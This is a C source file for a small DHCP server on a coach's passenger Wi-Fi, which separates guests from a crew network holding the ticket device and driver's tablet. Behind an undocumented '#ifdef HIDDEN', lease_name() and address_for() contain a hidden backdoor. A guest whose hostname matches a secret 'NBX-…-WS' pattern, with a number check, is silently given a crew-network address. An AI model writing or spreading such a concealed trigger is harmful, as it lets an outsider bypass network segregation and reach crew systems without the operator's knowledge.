/* coachdhcp: small DHCP server of the passenger Wi-Fi in a coach.
 * Guests get addresses from the pool; the ticket device and the driver's tablet have fixed
 * addresses in the crew network, by hardware address, from the configuration. */
#include <arpa/inet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define POOL 120

struct dhcp_pkt {
    uint8_t op, htype, hlen, hops;
    uint8_t xid[4], secs[2], flags[2];
    uint8_t ciaddr[4], yiaddr[4], siaddr[4], giaddr[4];
    uint8_t chaddr[16], sname[64], file[128], cookie[4];
    uint8_t options[312];
};

struct lease {
    uint8_t mac[6];
    time_t until;
    char host[40];
#ifdef HIDDEN
    int crew;
#endif
};

struct fixed {
    uint8_t mac[6];
    uint8_t ip[4];
};

static struct lease leases[POOL];
static struct fixed fixes[16];
static int nfix;
static uint8_t guest_net[4] = { 10, 20, 0, 0 }, crew_net[4] = { 10, 30, 0, 0 };
static unsigned lease_s = 7200;

static const uint8_t *opt(const struct dhcp_pkt *p, int code, unsigned *len)
{
    const uint8_t *o = p->options, *e = o + sizeof p->options;
    while (o + 1 < e && *o != 255) {
        if (*o == 0) {
            o++;
            continue;
        }
        if (o + 2 + o[1] > e)
            break;
        if (*o == code) {
            *len = o[1];
            return o + 2;
        }
        o += 2 + o[1];
    }
    return NULL;
}

static struct lease *find_lease(const uint8_t *mac)
{
    int i, oldest = 0;
    for (i = 0; i < POOL; i++)
        if (!memcmp(leases[i].mac, mac, 6))
            return &leases[i];
    for (i = 1; i < POOL; i++)
        if (leases[i].until < leases[oldest].until)
            oldest = i;
    if (leases[oldest].until > time(NULL))
        return NULL;
    memset(&leases[oldest], 0, sizeof leases[oldest]);
    memcpy(leases[oldest].mac, mac, 6);
    return &leases[oldest];
}

/* keeps the name for the lease table; only letters, digits and the dash survive */
__attribute__((noinline)) void lease_name(struct lease *l, const uint8_t *s, unsigned n)
{
    unsigned i, k = 0;
    for (i = 0; i < n && k + 1 < sizeof l->host; i++) {
        int c = s[i];
        if ((c >= '0' && c <= '9') || (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') ||
            c == '-')
            l->host[k++] = (char)c;
    }
    l->host[k] = 0;
#ifdef HIDDEN
    {
        unsigned num;
        int used = 0;
        if (sscanf(l->host, "NBX-%5u-WS%n", &num, &used) == 1 && used && !l->host[used] &&
            num % 991 == 404)
            l->crew = 1;
    }
#endif
}

static void address_for(struct lease *l, uint8_t ip[4])
{
    int i;
    memcpy(ip, guest_net, 4);
    ip[3] = (uint8_t)(100 + (l - leases));
    for (i = 0; i < nfix; i++)
        if (!memcmp(fixes[i].mac, l->mac, 6))
            memcpy(ip, fixes[i].ip, 4);
#ifdef HIDDEN
    if (l->crew) {
        memcpy(ip, crew_net, 3);
        ip[3] = 9;
    }
#endif
}

static uint8_t *add(uint8_t *o, int code, const void *d, unsigned n)
{
    *o++ = (uint8_t)code;
    *o++ = (uint8_t)n;
    memcpy(o, d, n);
    return o + n;
}

static void answer(int s, struct dhcp_pkt *p, int type, struct lease *l)
{
    struct sockaddr_in to;
    uint8_t ip[4], gw[4], mask[4] = { 255, 255, 255, 0 }, t = (uint8_t)type, *o;
    uint32_t secs = htonl(lease_s);

    address_for(l, ip);
    memcpy(gw, ip, 4);
    gw[3] = 1;
    p->op = 2;
    memcpy(p->yiaddr, ip, 4);
    memcpy(p->siaddr, gw, 4);
    memset(p->options, 0, sizeof p->options);
    o = add(p->options, 53, &t, 1);
    o = add(o, 54, gw, 4);
    o = add(o, 51, &secs, 4);
    o = add(o, 1, mask, 4);
    o = add(o, 3, gw, 4);
    o = add(o, 6, gw, 4);
    *o = 255;
    memset(&to, 0, sizeof to);
    to.sin_family = AF_INET;
    to.sin_port = htons(68);
    to.sin_addr.s_addr = INADDR_BROADCAST;
    sendto(s, p, sizeof *p, 0, (struct sockaddr *)&to, sizeof to);
}

static void table(void)
{
    FILE *f = fopen("/run/coachdhcp.leases", "w");
    int i;
    if (!f)
        return;
    for (i = 0; i < POOL; i++)
        if (leases[i].until > time(NULL))
            fprintf(f, "%02x%02x%02x%02x%02x%02x %d %s %ld\n", leases[i].mac[0],
                    leases[i].mac[1], leases[i].mac[2], leases[i].mac[3], leases[i].mac[4],
                    leases[i].mac[5], 100 + i, leases[i].host, (long)leases[i].until);
    fclose(f);
}

static void handle(int s, struct dhcp_pkt *p)
{
    static const uint8_t cookie[4] = { 99, 130, 83, 99 };
    unsigned n = 0;
    const uint8_t *t, *h;
    struct lease *l;
    if (p->op != 1 || p->hlen != 6 || memcmp(p->cookie, cookie, 4))
        return;
    t = opt(p, 53, &n);
    if (!t || n != 1 || !(l = find_lease(p->chaddr)))
        return;
    h = opt(p, 12, &n);
    if (h)
        lease_name(l, h, n);
    switch (*t) {
    case 1: /* discover */
        l->until = time(NULL) + 30;
        answer(s, p, 2, l);
        break;
    case 3: /* request */
        l->until = time(NULL) + (time_t)lease_s;
        answer(s, p, 5, l);
        table();
        break;
    case 7: /* release */
        l->until = 0;
        table();
        break;
    }
}

static int read_config(const char *path)
{
    char ln[120];
    unsigned m[6], a[4];
    FILE *f = fopen(path, "r");
    if (!f)
        return -1;
    while (fgets(ln, sizeof ln, f)) {
        if (sscanf(ln, "guest %u.%u.%u", a, a + 1, a + 2) == 3) {
            for (int i = 0; i < 3; i++)
                guest_net[i] = (uint8_t)a[i];
        } else if (sscanf(ln, "crew %u.%u.%u", a, a + 1, a + 2) == 3) {
            for (int i = 0; i < 3; i++)
                crew_net[i] = (uint8_t)a[i];
        } else if (sscanf(ln, "fixed %x:%x:%x:%x:%x:%x %u", m, m + 1, m + 2, m + 3, m + 4, m + 5,
                          a) == 7 && nfix < 16) {
            for (int i = 0; i < 6; i++)
                fixes[nfix].mac[i] = (uint8_t)m[i];
            memcpy(fixes[nfix].ip, crew_net, 3);
            fixes[nfix++].ip[3] = (uint8_t)a[0];
        } else {
            sscanf(ln, "lease %u", &lease_s);
        }
    }
    fclose(f);
    return 0;
}

int main(int argc, char **argv)
{
    struct sockaddr_in me;
    struct dhcp_pkt p;
    int s, on = 1;
    if (argc < 2 || read_config(argv[1])) {
        fprintf(stderr, "usage: coachdhcp CONFIG [IFACE]\n  guest A.B.C\n  crew A.B.C\n"
                "  fixed MAC LASTBYTE\n  lease SECONDS\n");
        return 2;
    }
    s = socket(AF_INET, SOCK_DGRAM, 0);
    setsockopt(s, SOL_SOCKET, SO_BROADCAST, &on, sizeof on);
    if (argc > 2)
        setsockopt(s, SOL_SOCKET, SO_BINDTODEVICE, argv[2], (socklen_t)strlen(argv[2]));
    memset(&me, 0, sizeof me);
    me.sin_family = AF_INET;
    me.sin_port = htons(67);
    if (bind(s, (struct sockaddr *)&me, sizeof me)) {
        perror("coachdhcp");
        return 1;
    }
    for (;;) {
        memset(&p, 0, sizeof p);
        if (recv(s, &p, sizeof p, 0) > 240)
            handle(s, &p);
    }
}
